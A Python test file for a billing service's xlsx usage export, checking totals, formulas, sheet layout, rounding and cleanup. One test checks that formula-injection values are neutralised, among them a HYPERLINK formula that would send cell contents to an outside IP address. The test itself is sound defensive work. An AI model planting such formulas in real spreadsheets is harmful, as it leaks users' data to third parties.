"""``xlsx``, read back by openpyxl: as it was written, and as it shows."""

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from proxy.billing.exports import xlsx
from proxy.billing.exports.workbook import half_up
from proxy.core.levels import Overridable
from proxy.core.money import PICO_PER_EURO, cents_half_up, euros_text
from proxy.core.parties import Address, Bank, Seller
from proxy.core.usage import UsageType
from proxy.ledger.accounts import Accounts
from proxy.ledger.overrides import Overrides
from proxy.ledger.rows import sums_of
from proxy.ledger.store import Ledger
from tests.billing.exports.month import MADE_MS, NAMES, TYPES, export, fill, request, total_pico
from tests.ledger.support import NOON_MS, Clock, entry

HEADER_ROW = 5
EUROS, EXACT = "Euros", "Euros, exact"


def book(file: bytes, *, shown: bool) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(file), data_only=shown)


def rows_of(sheet: Worksheet, header_row: int) -> list[dict[str, object]]:
    header, *rows = list(sheet.iter_rows(min_row=header_row, values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def cents(value: object) -> int:
    """Return the cents of a cell; fails if it shows anything finer."""
    amount = Decimal(repr(value)) * 100
    assert amount == int(amount)
    return int(amount)


async def test_each_account_is_a_row_of_the_summary(database):
    names, made = await fill(database)
    sheet = book(await export(database, "xlsx"), shown=True)["Summary"]
    *rows, total = rows_of(sheet, HEADER_ROW)
    assert [row["Account"] for row in rows] == sorted(names.values())
    for row in rows:
        own = [one for one in made if one.account_id == row["Account id"]]
        assert row["Account"] == names[row["Account id"]]
        assert row["Calls"] == len(own)
        assert row[EXACT] == euros_text(total_pico(own))
        assert cents(row[EUROS]) == cents_half_up(total_pico(own))
        for kind, title in zip(TYPES, list(row)[4:10], strict=True):
            lines = [line for one in own for line in one.charge.lines if line.usage_type is kind]
            assert row[title] == sum(line.amount for line in lines)
        if row["Account id"] != "acc_of_nobody":
            assert row["Tier"] == "Tier 1"
            assert row["Monthly cap, euros"] == 200
            assert row["Share of cap"] == pytest.approx(total_pico(own) / (200 * PICO_PER_EURO))
    assert (total["Account"], total["Calls"]) == ("Total", len(made))
    assert total[EXACT] == euros_text(total_pico(made))


async def test_totals_are_formulas_that_say_what_they_show(database):
    await fill(database)
    file = await export(database, "xlsx")
    for title, header_row, euros in (("Summary", HEADER_ROW, cents), ("Details", 1, micros)):
        shown, written = book(file, shown=True)[title], book(file, shown=False)[title]
        *rows, total = rows_of(shown, header_row)
        formulas = rows_of(written, header_row)[-1]
        assert euros(total[EUROS]) == sum(euros(row[EUROS]) for row in rows)
        letter = shown.cell(header_row, list(total).index(EUROS) + 1).column_letter
        last = header_row + len(rows)
        assert formulas[EUROS] == f"=SUM('{title}'!{letter}{header_row + 1}:{letter}{last})"


def micros(value: object) -> int:
    amount = Decimal(repr(value)) * 1_000_000
    assert amount == int(amount)
    return int(amount)


async def test_details_add_up_to_the_entries(database):
    names, made = await fill(database)
    *rows, total = rows_of(book(await export(database, "xlsx"), shown=True)["Details"], 1)
    daily, _ = sums_of(made)
    expected = [
        (names[account_id], day, model, kind, tariff_class, version, quantity, euros_text(cost_pico))
        for account_id, day, model, kind, tariff_class, version, quantity, cost_pico, _ in daily.rollup_rows()
    ]
    shown = ("Account", "Day", "Model", "Usage type", "Class", "Price version", "Quantity", EXACT)
    assert [tuple(row[name] for name in shown) for row in rows] == expected
    assert sum(Decimal(row[EXACT]) for row in rows) * PICO_PER_EURO == total_pico(made)
    assert total[EXACT] == euros_text(total_pico(made))
    for row in rows:
        per = 1 if row["Usage type"] == UsageType.AUDIO_MINUTES else 1_000_000
        assert row["Price of"] == ("minute" if per == 1 else "1,000,000 tokens")
        if row["Quantity"]:
            price = Decimal(repr(row["Price, euros"]))
            assert price * row["Quantity"] / per == Decimal(row[EXACT])
        else:
            assert row["Price, euros"] is None


async def test_nothing_in_it_is_a_formula_but_the_totals(database):
    await fill(database)
    for sheet in book(await export(database, "xlsx"), shown=False):
        names = {cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}
        formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        assert names >= set(NAMES)
        assert all(str(cell.value).startswith("=SUM('") for cell in formulas)
        assert {cell.row for cell in formulas} == {sheet.max_row}
        quoted = {cell.value for row in sheet.iter_rows() for cell in row if cell.quotePrefix}
        assert {'=HYPERLINK("http://198.51.100.7/?"&A1,"x")', "@SUM(A1)", "-2+3"} <= quoted
        assert "acme" not in quoted


async def test_it_says_what_it_is_and_can_be_filtered_and_printed(database):
    address = Address(("1 rue de l’Exemple",), "75000", "Paris", "FR")
    seller = Seller("Tollgate SAS", "SAS", "1 EUR", "1", "1", "Paris", "FR1", address, "a@b.example", Bank("", "", ""))
    names, _ = await fill(database)
    whole = book(await export(database, "xlsx", seller=seller), shown=True)
    summary, details = whole["Summary"], whole["Details"]
    assert summary["A1"].value == "Usage, 2026-11"
    assert summary["A2"].value == "Tollgate SAS. Made 2026-12-01 07:30 UTC. The month is each account's own."
    assert summary.freeze_panes == f"B{HEADER_ROW + 1}"
    assert summary.auto_filter.ref == f"A{HEADER_ROW}:N{HEADER_ROW + len(names)}"  # the total is never filtered away
    assert details.freeze_panes == "B2"
    assert (summary.page_setup.orientation, summary.page_setup.fitToHeight) == ("landscape", 0)
    assert summary.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert summary.column_dimensions["A"].width > 25
    assert summary.cell(HEADER_ROW + 1, 11).number_format == "#,##0.00"


async def test_what_does_not_fit_a_sheet_goes_on_in_the_next(database, monkeypatch):
    _, made = await fill(database)
    monkeypatch.setattr(xlsx, "ROWS_MAX", 30)
    file = await export(database, "xlsx")
    shown, written = book(file, shown=True), book(file, shown=False)
    titles = shown.sheetnames[1:]
    assert titles[:2] == ["Details", "Details 2"]
    assert all(shown[title].max_row <= 30 for title in titles)
    rows = [row for title in titles for row in rows_of(shown[title], 1)]
    total = rows.pop()
    assert sum(Decimal(row[EXACT]) for row in rows) * PICO_PER_EURO == total_pico(made)
    assert micros(total[EUROS]) == sum(micros(row[EUROS]) for row in rows)
    formula = str(rows_of(written[titles[-1]], 1)[-1][EUROS])
    assert formula.count("'!J2:J") == len(titles)


async def test_the_cap_is_what_the_account_had_at_the_end_of_the_month(database):
    account = await Accounts(database, Clock(NOON_MS - 10**9)).create("acme", "tier1")
    await Ledger(database).insert([entry(account_id=account.id)])
    overrides = Overrides(database, Clock(NOON_MS))
    await overrides.set("acme", {Overridable.MONTHLY_LIMIT: 50 * PICO_PER_EURO}, MADE_MS * 2, "why", "who")
    (row, _) = rows_of(book(await export(database, "xlsx"), shown=True)["Summary"], HEADER_ROW)
    assert row["Monthly cap, euros"] == 50
    await Accounts(database, Clock(NOON_MS + 1000)).set_tier("acme", "tier2")
    (row, _) = rows_of(book(await export(database, "xlsx"), shown=True)["Summary"], HEADER_ROW)
    assert row["Tier"] == "Tier 1, Tier 2"


async def test_a_tier_without_a_cap_has_none(database):
    account = await Accounts(database, Clock(NOON_MS - 10**9)).create("acme", "tier2")
    await Ledger(database).insert([entry(account_id=account.id)])
    (row, _) = rows_of(book(await export(database, "xlsx"), shown=True)["Summary"], HEADER_ROW)
    assert (row["Monthly cap, euros"], row["Share of cap"]) == ("none", None)


async def test_the_same_month_made_at_the_same_time_is_the_same_file(database):
    await fill(database)
    first, second = await export(database, "xlsx"), await export(database, "xlsx")
    later = await export(database, "xlsx", made_ms=MADE_MS + 60_000)
    assert first == second
    assert first != later


async def test_of_a_month_without_calls_there_are_the_headers_and_zero(database):
    whole = book(await export(database, "xlsx"), shown=True)
    (total,) = rows_of(whole["Summary"], HEADER_ROW)
    assert (total["Account"], total["Calls"], total[EUROS], total[EXACT]) == ("Total", 0, 0, "0.00")
    assert rows_of(whole["Details"], 1)[-1][EXACT] == "0.00"


async def test_nothing_of_it_is_left_in_a_temporary_folder(database, tmp_path, monkeypatch):
    await fill(database)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    out = _Full()
    with pytest.raises(OSError, match="no space"):
        await xlsx.write_xlsx(request(database), out)
    assert [path for path in tmp_path.iterdir() if path.name.startswith("tollgate")] == []
    assert zipfile.is_zipfile(io.BytesIO(await export(database, "xlsx")))
    assert [path for path in tmp_path.iterdir() if path.name.startswith("tollgate")] == []


class _Full(io.BytesIO):
    def write(self, _data: object) -> int:
        raise OSError(28, "no space left")


@pytest.mark.parametrize(("pico", "expected"), [(4_999_999_999, 0), (5_000_000_000, 1), (-5_000_000_000, -1)])
def test_money_is_rounded_half_up_from_the_integer(pico, expected):
    assert half_up(pico, 2) == expected == cents_half_up(pico)
